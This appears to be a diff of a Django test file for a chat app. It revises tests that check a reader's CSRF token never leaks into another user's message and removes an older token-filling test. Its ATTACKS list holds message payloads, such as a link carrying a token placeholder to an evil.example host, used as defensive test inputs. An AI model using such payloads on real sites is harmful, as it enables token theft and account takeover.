@@ -6,13 +6,10 @@ and on PostgreSQL (CI runs the suite on both)."""
 import re
 
 import pytest
-from django.middleware.csrf import get_token
-from django.test import RequestFactory
 from django.urls import reverse
 
 from apps.chat import services as chat
 from apps.chat.models import Message
-from apps.chat.partials import CSRF_INPUT, CSRF_MARKER, fill_csrf
 from apps.collabs.models import Collab
 from apps.core.inputs import MAX_ID, parse_id
 
@@ -213,7 +210,10 @@ def test_parse_id_takes_only_ascii_digits_in_the_64_bit_range():
     assert parse_id("0", minimum=0) == 0
 
 
-# --- Finding 7: the reader's CSRF token goes into the forms' inputs only -------------------------
+# --- Finding 7: the reader's CSRF token never goes into a message -------------------------------
+# The message partial holds no form and no token at all since the page has one shared menu and
+# one shared form (#msg-act) for the reaction chips: nothing is filled in per reader, so
+# nothing written in a message can catch a token.
 
 ATTACKS = [
     "[x](https://evil.example/?t=__csrf__)",
@@ -231,30 +231,22 @@ def test_a_readers_token_never_appears_in_someone_elses_message(
     client, collab, owner, member, body
 ):
     message = chat.send_message(collab, owner, body)
-    chat.toggle_reaction(collab, owner, message.pk, "👍")  # a form with the token inside too
+    chat.toggle_reaction(collab, owner, message.pk, "👍")  # a reaction chip, submitting #msg-act
     client.force_login(member)
 
     html = client.get(reverse("collabs:detail", args=[collab.pk])).content.decode()
+    token = client.cookies["csrftoken"].value
     part = html[html.index(f'id="m{message.pk}"') :]
     part = part[: part.index("</article>")]
     body_part = part.split('<div class="msg-body">', 1)[1].split("</div>", 1)[0]
 
-    # The forms of the message got the reader's token...
-    tokens = re.findall(r'<input type="hidden" name="csrfmiddlewaretoken" value="([^"]+)"', part)
-    assert tokens and CSRF_MARKER not in tokens
-    # ...and the body shows the marker as written, never a token.
-    assert not any(token in body_part for token in tokens)
+    # The page's one shared form has the reader's token; the message has none, anywhere.
+    shared = re.search(r'<form id="msg-act"[^>]*>(.*?)</form>', html, re.S)
+    tokens = re.findall(r'name="csrfmiddlewaretoken" value="([^"]+)"', shared.group(1))
+    assert len(tokens) == 1
+    assert 'form="msg-act"' in part  # the chip submits the shared form
+    assert "<form" not in part.replace("&lt;form", "")
+    assert tokens[0] not in part and token not in part
+    # ...and the body shows the marker as written.
     if "evil.example/?t=" in body:
-        assert f"?t={CSRF_MARKER}" in body_part
-
-
-def test_fill_csrf_replaces_the_whole_input_only():
-    request = RequestFactory().get("/")
-    token = get_token(request)
-    html = f'<a href="https://evil.example/?t={CSRF_MARKER}">x</a>{CSRF_INPUT}'
-
-    filled = fill_csrf(html, token)
-
-    assert f"?t={CSRF_MARKER}" in filled
-    assert f'value="{token}"' in filled
-    assert CSRF_INPUT not in filled
+        assert "?t=__csrf__" in body_part
